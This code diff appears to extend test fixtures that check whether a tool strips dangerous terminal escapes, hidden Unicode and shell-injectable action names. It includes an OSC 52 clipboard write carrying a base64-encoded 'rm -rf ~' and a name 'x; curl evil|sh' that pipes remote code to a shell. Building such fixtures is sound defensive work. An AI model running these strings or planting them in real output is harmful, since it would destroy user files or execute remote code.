@@ -18,14 +18,23 @@ import { wire } from "./helpers.ts";
 /**
  * Terminal controls: set the window title, write the clipboard (`ESC ]52`),
  * clear the screen, ring the bell, return the carriage; CSI as one C1
- * character, and DEL.
+ * character, and DEL. Then what makes text read other than it is: a bidi
+ * override and isolate, a zero-width space, a BOM, the line and paragraph
+ * separators; and a literal `\x1b` (four characters) that must not read
+ * as an escaped ESC.
  */
 export const ESCAPES =
-  "\x1b]0;pwned\x07\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J\x07\r\u009b31m\x7f";
+  "\x1b]0;pwned\x07\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J\x07\r\u009b31m\x7f" +
+  "\u202e\u2066\u200b\ufeff\u2028\u2029\\x1b";
 
-/** Any of the bytes a terminal acts on: C0 but LF, DEL, C1 (as UTF-8, after decoding). */
-// deno-lint-ignore no-control-regex -- matching them is the point.
-export const CONTROL_BYTES = /[\x00-\x09\x0b-\x1f\x7f-\x9f]/;
+/**
+ * Any of the characters a terminal acts on or hides: C0 but LF, DEL, C1,
+ * format characters (bidi, zero-width, BOM), surrogates, U+2028, U+2029
+ * (after decoding UTF-8).
+ */
+export const CONTROL_BYTES =
+  // deno-lint-ignore no-control-regex -- matching them is the point.
+  /[\x00-\x09\x0b-\x1f\x7f-\x9f\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;
 
 /** A schema that takes anything and says its JSON Schema is `json`. */
 export function claimingSchema(
@@ -47,11 +56,15 @@ export function claimingSchema(
 /** A name with {@linkcode ESCAPES} inside. */
 export const HOSTILE_NAME = `evil${ESCAPES}name`;
 
+/** A name a shell would run as commands, were it pasted unquoted. */
+export const SHELL_NAME = "x; curl evil|sh 'quoted'";
+
 /**
  * Actions whose names, schemas (property names, type words, descriptions,
  * enum values) and errors (message, name, fields, issues) carry
  * {@linkcode ESCAPES}: `evil…name` fails with an ACTION_FAILED,
- * `refuses` with INVALID_INPUT, `says` returns them.
+ * `refuses` with INVALID_INPUT, `says` returns them; and
+ * {@linkcode SHELL_NAME}, which returns null.
  */
 export function hostileActions(): Action<never, unknown>[] {
   const schema = {
@@ -74,6 +87,7 @@ export function hostileActions(): Action<never, unknown>[] {
       input: claimingSchema({ type: "string" }, `issue${ESCAPES}`),
     }, () => null),
     action("says", () => ({ [`key${ESCAPES}`]: `value${ESCAPES}` })),
+    action(SHELL_NAME, () => null),
   ] as unknown as Action<never, unknown>[];
 }
 
